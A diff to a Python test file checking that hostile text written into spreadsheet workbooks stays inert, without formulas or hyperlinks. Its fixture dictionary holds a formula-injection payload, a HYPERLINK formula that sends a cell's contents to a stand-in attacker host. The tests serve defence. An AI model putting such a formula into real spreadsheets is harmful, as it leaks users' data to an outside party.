@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from importer.model import Outcome, Severity, State
 from importer.results import Against, write_workbook
 from importer.results.inert import hold, sheet_name, with_mark
-from importer.results.listing import write_listing
+from importer.results.workbook import write_listing
 
 HOSTILE = {
     "a link formula": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
@@ -162,6 +162,6 @@ def test_a_hostile_text_stays_text_in_a_plain_listing(tmp_path, text):
         if name.startswith("xl/worksheets/sheet"):
             assert not list(root.iter(f"{MAIN}f"))
             assert not list(root.iter(f"{MAIN}hyperlink"))
-    [item, *_] = parts["xl/sharedStrings.xml"].iter(f"{MAIN}si")
+    [item, *_] = parts["xl/worksheets/sheet1.xml"].iter(f"{MAIN}is")
     read = "".join(piece.text or "" for piece in item.iter(f"{MAIN}t")).replace("_x000D_", "\r")
     assert read.replace("_x005F_", "_").replace("\r", "\n") == hold(text).replace("\r", "\n")
